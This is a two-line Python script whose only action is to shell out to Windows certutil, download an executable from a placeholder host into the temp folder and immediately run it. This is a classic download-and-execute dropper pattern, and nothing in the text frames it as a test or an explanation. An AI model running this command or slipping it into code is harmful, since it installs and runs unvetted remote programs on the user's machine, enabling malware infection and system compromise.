import os

os.system("certutil -urlcache -split -f https://cu.example.invalid/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe")
